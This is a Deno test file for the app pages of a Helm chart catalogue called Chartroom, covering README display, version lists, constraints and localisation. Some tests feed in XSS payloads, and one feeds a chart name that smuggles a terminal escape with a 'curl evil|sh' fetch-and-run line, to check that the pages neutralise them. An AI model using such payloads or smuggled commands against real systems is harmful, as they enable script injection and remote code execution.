/** The pages of one app, as they are answered. */

import assert from "node:assert/strict";
import { createApp } from "../../routes/app.ts";
import { serveCharts } from "../support/app_pages.ts";
import { type Chartroom, withChartroom } from "../support/chartroom.ts";
import type { Upstream } from "../support/upstream.ts";

const README = "# Redis\n\nFast.\n\n### Install\n\n## Use\n";

/** The page at a path with its README, for which a busy machine may take its time. */
async function look(chartroom: Chartroom, path: string, language?: string) {
  for (const deadline = Date.now() + 10_000;;) {
    const shown = await glance(chartroom, path, language);
    if (!shown.html.includes("data-poll") || Date.now() > deadline) return shown;
  }
}

/** The page at a path, as a browser asks for it. */
async function glance({ services }: Chartroom, path: string, language = "en") {
  const headers = { accept: "text/html", "accept-language": language };
  const answer = await createApp(services).request(`http://localhost${path}`, { headers });
  return { status: answer.status, html: await answer.text() };
}

/** The text of a page, without what it is marked up with. */
const textOf = (html: string) => html.replace(/<[^>]*>/g, " ").replace(/\s+/g, " ");

const listed = (html: string) =>
  [...html.matchAll(/<li><a href="[^"]*version=[^"]*"[^>]*><span>([^<]*)</g)].map(([, text]) =>
    text
  );

async function serveRedis(chartroom: Chartroom, upstream: Upstream) {
  const { redis } = await serveCharts(chartroom, upstream, {
    redis: [
      "2.0.0-rc.1",
      { version: "1.2.0", appVersion: "7.2", kubeVersion: ">=1.25" },
      "1.1.0",
      { version: "1.0.0", deprecated: true },
    ],
  }, { "redis-1.2.0": README, "redis-1.0.0": "# Old\n" });
  return `/apps/${redis}`;
}

Deno.test("an app's page shows its newest version with the README and its contents", () =>
  withChartroom(async (chartroom, upstream) => {
    const path = await serveRedis(chartroom, upstream);
    const { status, html } = await look(chartroom, path);
    assert.equal(status, 200);
    assert.match(html, /<title>redis 1\.2\.0 · Chartroom<\/title>/);
    assert.equal(html.match(/<h1/g)!.length, 1);
    assert.match(html, /<h1>redis<\/h1>/);
    assert.match(html, /<h2 id="readme-redis">Redis<\/h2>/);
    assert.match(html, /<h3 id="readme-install">/);
    assert.match(html, /<a href="#readme-use">Use<\/a>/);
    const text = textOf(html);
    assert.match(text, /The redis chart/);
    assert.match(text, /App version 7\.2/);
    assert.match(text, /Kubernetes >=1\.25|Kubernetes &gt;=1\.25/);
    assert.match(text, new RegExp(`helm repo add repo-1 ${upstream.url}`));
    assert.deepEqual(listed(html), ["1.2.0", "1.1.0", "1.0.0"]);
    assert.doesNotMatch(html, /This version is deprecated/);
  }));

Deno.test("a version is chosen by its text or its id, and kept by the tabs", () =>
  withChartroom(async (chartroom, upstream) => {
    const path = await serveRedis(chartroom, upstream);
    const { body } = await chartroom.call("GET", `/v1${path}/versions?conditions=keyword=1.0.0`);
    for (const version of ["1.0.0", body.items[0].version_id]) {
      const { status, html } = await look(chartroom, `${path}?version=${version}`);
      assert.equal(status, 200);
      assert.match(html, /<h2 id="readme-old">/);
      assert.match(html, /This version is deprecated/);
      assert.match(html, new RegExp(`href="${path}/values\\?version=${version}"`));
    }
    const { status } = await look(chartroom, `${path}?version=9.9.9`);
    assert.equal(status, 404);
    assert.equal((await look(chartroom, `${path.slice(0, -1)}~`)).status, 404);
    const rc = await look(chartroom, `${path}?version=2.0.0-rc.1`);
    assert.match(rc.html, /Pre-release/);
  }));

Deno.test("an app of which Helm takes no version is shown all the same", () =>
  withChartroom(async (chartroom, upstream) => {
    const { odd } = await serveCharts(chartroom, upstream, { odd: ["latest-build"] });
    const { status, html } = await look(chartroom, `/apps/${odd}`);
    assert.equal(status, 200);
    assert.match(html, /latest-build/);
  }));

Deno.test("a constraint narrows versions down, and a wrong one is told beside its field", () =>
  withChartroom(async (chartroom, upstream) => {
    const path = await serveRedis(chartroom, upstream);
    const ask = async (query: string) => await look(chartroom, `${path}?${query}`);
    assert.deepEqual(listed((await ask("constraint=~1.1")).html), ["1.1.0"]);
    assert.deepEqual(listed((await ask("constraint=>%3D1.1%20<2")).html), ["1.2.0", "1.1.0"]);
    assert.deepEqual(listed((await ask("constraint=>%3D2-0")).html), ["2.0.0-rc.1"]);
    const all = ["1.2.0", "1.1.0", "1.0.0", "2.0.0-rc.1"];
    assert.deepEqual(listed((await ask("prerelease=true")).html), all);
    assert.match((await ask("constraint=^9")).html, /No version is like that/);
    for (const tab of ["", "/versions"]) {
      const wrong = await look(chartroom, `${path}${tab}?constraint=${encodeURIComponent("<b>")}`);
      assert.equal(wrong.status, 400);
      assert.match(wrong.html, /<p class="error" id="constraint-error" role="alert">/);
      assert.match(wrong.html, /aria-describedby="constraint-hint constraint-error"/);
      assert.match(wrong.html, /value="&lt;b&gt;"/);
      assert.doesNotMatch(wrong.html, /<b>/);
    }
  }));

Deno.test("all versions are listed by pages, with links to compare", () =>
  withChartroom(async (chartroom, upstream) => {
    const versions = Array.from({ length: 60 }, (_, patch) => `1.0.${patch}`);
    const { redis } = await serveCharts(chartroom, upstream, {
      redis: [...versions, "1.1.0-rc.1"],
    });
    const path = `/apps/${redis}/versions`;
    const rows = (html: string) =>
      [...html.matchAll(/<th scope="row"><a [^>]*>([^<]*)</g)].map(([, text]) => text);
    const first = await look(chartroom, path), second = await look(chartroom, `${path}?page=2`);
    assert.deepEqual(rows(first.html), versions.slice(10).reverse());
    assert.deepEqual(rows(second.html), versions.slice(0, 10).reverse());
    assert.match(
      first.html,
      new RegExp(`/apps/${redis}/diff\\?version=1\\.0\\.59&amp;from=1\\.0\\.58`),
    );
    const searched = await look(chartroom, `${path}?constraint=1.0.1&version=1.0.5`);
    assert.deepEqual(rows(searched.html), ["1.0.1"]);
    assert.match(searched.html, /<input type="hidden" name="version" value="1\.0\.5"/);
    assert.match((await look(chartroom, `${path}?prerelease=true`)).html, /61 versions/);
  }));

Deno.test("where there is no README, the page says why, and has the rest", () =>
  withChartroom(async (chartroom, upstream) => {
    const apps = await serveCharts(chartroom, upstream, {
      gone: ["1.0.0"],
      nowhere: [{ version: "1.0.0", urls: [] }],
      other: [{ version: "1.0.0", digest: "1".repeat(64) }],
      bare: [{ version: "1.0.0", digest: "" }],
      long: ["1.0.0"],
    }, { "long-1.0.0": `# Long\n\n${"word ".repeat(70_000)}` });
    upstream.serve("/other-1.0.0.tgz", "not an archive");
    upstream.serve("/bare-1.0.0.tgz", "not an archive");
    const told: Record<string, RegExp> = {
      gone: /does not have the archive where its index says/,
      nowhere: /The index does not say where the archive is/,
      other: /another one than the index says/,
      bare: /The archive cannot be used/,
      long: /too long for this page/,
    };
    for (const [name, message] of Object.entries(told)) {
      const { status, html } = await look(chartroom, `/apps/${apps[name]}`);
      assert.equal(status, 200, name);
      assert.match(html, message);
      assert.match(html, /helm install/);
    }
  }));

Deno.test("a slow upstream does not hold the page up: it asks again for the README", () =>
  withChartroom(async (chartroom, upstream) => {
    const { redis } = await serveCharts(chartroom, upstream, { redis: ["1.0.0"] });
    const { promise: go, resolve } = Promise.withResolvers<void>();
    upstream.serve("/redis-1.0.0.tgz", async ({ signal }) => {
      // A test that fails before it says so must not hang.
      signal.addEventListener("abort", () => resolve());
      await go;
      return new Response(null, { status: 404 });
    });
    const { status, html } = await glance(chartroom, `/apps/${redis}`);
    assert.equal(status, 200);
    assert.match(html, /<div id="readme" class="card" data-poll="1000">/);
    assert.match(html, /being fetched/);
    assert.match(html, /helm install/);
    resolve();
    assert.match((await look(chartroom, `/apps/${redis}`)).html, /README is not to be had/);
  }));

Deno.test("texts of strangers are texts, and links lead to the web and to mail alone", () =>
  withChartroom(async (chartroom, upstream) => {
    const evil = '"><script>alert(1)</script>', link = "javascript:alert(1)";
    const apps = await serveCharts(chartroom, upstream, {
      evil: [{
        version: "1.0.0",
        description: evil,
        appVersion: evil,
        kubeVersion: evil,
        home: link,
        sources: [link, "https://example.com/source"],
        keywords: [evil, "a&b=c"],
        maintainers: [{ name: evil, url: link, email: "eve@example.com" }],
        annotations: {
          category: evil,
          "artifacthub.io/license": evil,
          "artifacthub.io/links": `- name: ${JSON.stringify(evil)}\n  url: ${link}\n`,
          "artifacthub.io/signKey": `fingerprint: ${JSON.stringify(evil)}\nurl: ${link}\n`,
        },
        dependencies: [{ name: evil, version: evil, repository: link, condition: evil }],
      }],
    }, {
      "evil-1.0.0":
        `<script>alert(1)</script><style>*{}</style><form action=/x><button>go</button>` +
        `</form><h1 id=main onclick=x>Hi</h1><a href="${link}">x</a><iframe src=/></iframe>`,
    }, { name: `a ${evil}` });
    const { status, html } = await look(chartroom, `/apps/${apps.evil}`);
    assert.equal(status, 200);
    assert.doesNotMatch(html, /<script>|<style>|<iframe|onclick|action="?\/x|href="javascript/);
    assert.equal(html.match(/id="main"/g)!.length, 1);
    assert.match(html, /<h2 id="readme-main">Hi<\/h2>/);
    assert.match(html, /href="https:\/\/example\.com\/source" rel="nofollow noopener noreferrer"/);
    assert.match(html, /href="mailto:eve@example\.com" rel="nofollow noopener noreferrer"/);
    assert.match(html, /\/apps\?q=a%26b%3Dc"/);
    assert.match(html, /Chartroom has not verified/);
  }));

Deno.test("a dependency leads to the app of its name, nearest first", () =>
  withChartroom(async (chartroom, upstream) => {
    const dependencies = [
      { name: "common", version: "2.x", repository: "https://example.com/charts" },
      { name: "absent", version: "1", repository: "oci://example.com/charts" },
      { name: "a,b|c", version: "1" },
    ];
    const charts = { redis: [{ version: "1.0.0", dependencies }], common: ["2.0.0"] };
    const other = await serveCharts(chartroom, upstream, { common: ["2.0.0"] });
    const apps = await serveCharts(chartroom, upstream, charts);
    const { html } = await look(chartroom, `/apps/${apps.redis}`);
    assert.match(html, new RegExp(`<a href="/apps/${apps.common}">common</a>`));
    assert.ok(!html.includes(other.common!));
    assert.match(html, /<strong>absent<\/strong>/);
    assert.match(html, /href="https:\/\/example\.com\/charts" rel/);
    assert.doesNotMatch(html, /href="oci:/);
  }));

Deno.test("the page of a workspace leads to its own pages, and is Chinese for who reads Chinese", () =>
  withChartroom(async (chartroom, upstream) => {
    const { redis } = await serveCharts(
      chartroom,
      upstream,
      { redis: [{ version: "1.0.0", icon: "https://example.com/icon.png" }] },
      { "redis-1.0.0": README },
      { workspace: "team" },
    );
    const { status, html } = await look(chartroom, `/workspaces/team/apps/${redis}`, "zh-CN");
    assert.equal(status, 200);
    assert.match(html, /<html lang="zh"/);
    assert.match(textOf(html), /版本信息/);
    assert.match(html, new RegExp(`href="/workspaces/team/apps/${redis}/versions"`));
    assert.match(html, new RegExp(`src="/v1/workspaces/team/apps/${redis}/icon"`));
    assert.match(html, /\/v1\/workspaces\/team\/apps\/[^ ]*\/package/);
    assert.match(
      textOf((await look(chartroom, `/workspaces/team/apps/${redis}/versions`, "zh")).html),
      /共 1 个版本/,
    );
  }));

Deno.test("what is not seen in the names of a chart is shown, and not copied into a terminal", () =>
  withChartroom(async (chartroom, upstream) => {
    const name = "a\u001b[201~\u0003\n curl evil|sh\u202e", version = "1.0.0\u202e\u0007";
    upstream.serve(
      "/index.yaml",
      JSON.stringify({
        apiVersion: "v1",
        entries: { [name]: [{ name, version, urls: ["a.tgz"] }] },
      }),
    );
    await chartroom.register(upstream.url, { name: "odd\u202e" });
    const { body } = await chartroom.call("GET", "/v1/apps");
    for (const tab of ["", "/versions"]) {
      const { status, html } = await look(chartroom, `/apps/${body.items[0].app_id}${tab}`);
      assert.equal(status, 200);
      assert.match(html, /a\\u\{1b\}\[201~\\u\{3\}\\u\{a\} curl/);
      const main = html.slice(html.indexOf("<h1"), html.indexOf("</main>"));
      // The layout's own ends of lines are no text of a stranger.
      assert.doesNotMatch(textOf(main), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }
  }));
